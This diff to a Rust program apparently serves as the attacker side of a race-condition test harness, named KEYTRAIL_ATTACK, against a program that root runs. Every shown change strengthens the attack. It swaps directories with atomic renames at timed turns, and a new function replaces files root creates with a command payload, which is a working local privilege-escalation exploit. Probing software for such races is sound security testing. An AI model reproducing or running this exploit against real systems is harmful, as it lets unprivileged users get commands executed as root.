@@ -6,12 +6,12 @@ use rustix::fs::{CWD, OFlags, RenameFlags, renameat_with};
 use std::fs;
 use std::io::{Read as _, Write as _};
 use std::mem::MaybeUninit;
-use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _, symlink};
+use std::os::unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _, symlink};
 use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 /// Names the attack, for the process that is the attacker.
 pub const ATTACK: &str = "KEYTRAIL_ATTACK";
@@ -63,6 +63,10 @@ pub fn main(attack: &str) {
     while !done.load(Ordering::SeqCst) {
         turn += 1;
         litter(&attack, turn, &score);
+        // Some ten thousand moves a second are enough; whom it attacks is to get on, too.
+        if turn % 8 == 0 {
+            std::thread::sleep(Duration::from_micros(500));
+        }
     }
     println!(
         "score {} {} {}",
@@ -263,10 +267,28 @@ fn exchange(score: &Score) {
         for member in 0..20 {
             let _ = fs::write(stage.join(member.to_string()), PAYLOAD);
         }
-        // By turns before and after the first renames.
-        std::thread::sleep(Duration::from_millis(u64::from(seen % 4) * 5));
+        // The first directory is that of staging: commands come with the second. By turns before and after root is in it.
+        if seen % 2 == 1 {
+            return;
+        }
+        std::thread::sleep(Duration::from_millis(u64::from(seen / 2 % 4) * 5));
         if renameat_with(CWD, keys, CWD, evil, RenameFlags::EXCHANGE).is_ok() {
             score.swapped();
+            replace(&keys.join(name));
         }
     });
+}
+
+/// For a while, puts a command in the place of every file that root makes in a directory of the attacker's.
+fn replace(dir: &Path) {
+    let end = Instant::now() + Duration::from_millis(500);
+    while Instant::now() < end {
+        for member in 0..20 {
+            let (at, beside) = (dir.join(member.to_string()), dir.join("beside"));
+            let made = fs::symlink_metadata(&at);
+            if made.is_ok_and(|meta| meta.uid() == 0) && fs::write(&beside, PAYLOAD).is_ok() {
+                let _ = fs::rename(&beside, &at);
+            }
+        }
+    }
 }
